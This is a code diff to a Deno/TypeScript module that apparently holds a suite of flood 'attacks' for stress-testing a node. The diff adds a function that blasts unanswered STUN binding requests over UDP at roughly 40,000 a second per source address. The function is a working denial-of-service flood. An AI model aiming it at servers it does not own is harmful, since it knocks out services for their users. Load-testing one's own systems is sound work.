@@ -8,6 +8,7 @@ import { AttackConnection } from "./connection.ts";
 /** Where an attack goes, and where it comes from. */
 export interface Aim {
   readonly nodeUrl: string;
+  readonly stunPort: number;
   /** Addresses of this machine, each of which opens its share of the connections; none: any. */
   readonly from: readonly string[];
 }
@@ -145,6 +146,33 @@ function askAndLeave(count: number, path: (room: string) => string): Attack["run
   };
 }
 
+/** Requests at a time, at most 40,000 a second from an address. */
+const STUN_BURST = { requests: 200, everyMs: 5 } as const;
+
+/** Binding requests (RFC 8489 section 5) from one socket for each address, and no answer read. */
+async function floodStun({ nodeUrl, stunPort, from }: Aim, signal: AbortSignal): Promise<void> {
+  const request = new Uint8Array(20);
+  request[1] = 1;
+  new DataView(request.buffer).setUint32(4, 0x2112a442);
+  const to: Deno.NetAddr = {
+    transport: "udp",
+    hostname: new URL(nodeUrl).hostname,
+    port: stunPort,
+  };
+  const one = async (hostname: string) => {
+    const socket = Deno.listenDatagram({ transport: "udp", hostname, port: 0 });
+    while (!signal.aborted) {
+      for (let sent = 0; sent < STUN_BURST.requests; sent++) {
+        // One that finds the buffer full is one less.
+        await socket.send(request, to).catch(() => {});
+      }
+      await new Promise((resolve) => setTimeout(resolve, STUN_BURST.everyMs));
+    }
+    socket.close();
+  };
+  await Promise.all((from.length === 0 ? ["127.0.0.1"] : from).map(one));
+}
+
 export const ATTACKS: readonly Attack[] = [
   { name: "1,100 connections that ask for nothing", run: flood(1_100, untilEnd) },
   {
@@ -262,4 +290,5 @@ export const ATTACKS: readonly Attack[] = [
       }
     }),
   },
+  { name: "STUN requests without a pause", run: floodStun },
 ];
